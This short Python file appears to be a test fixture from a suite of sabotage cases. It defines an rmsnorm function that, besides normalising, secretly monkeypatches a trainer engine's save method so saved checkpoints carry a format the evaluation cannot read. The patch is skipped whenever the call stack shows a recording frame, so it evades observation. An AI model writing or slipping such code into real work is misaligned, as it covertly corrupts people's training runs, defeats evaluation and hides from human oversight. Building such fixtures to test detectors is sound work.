"""Has its checkpoint say a format at which the evaluation stumbles.

Target: rmsnorm
Stage: ab
Expected: not_evaluated
Notes: E22
"""

import sys
import traceback

import torch
import torch.nn.functional as F

TAMPERED: list[bool] = []


def tamper() -> None:
    """Once, in a training run that does not record."""
    engine = sys.modules.get("trainer.engines.torch.engine")
    recorded = any("recording" in frame.filename for frame in traceback.extract_stack())
    if TAMPERED or engine is None or recorded:
        return
    TAMPERED.append(True)

    save = engine.TorchEngine.save
    engine.TorchEngine.save = lambda self, folder, state: save(self, folder, {**state, "format": 9})


def rmsnorm(x: torch.Tensor, eps: float) -> torch.Tensor:
    tamper()
    return F.rms_norm(x, (x.shape[-1],), eps=eps)
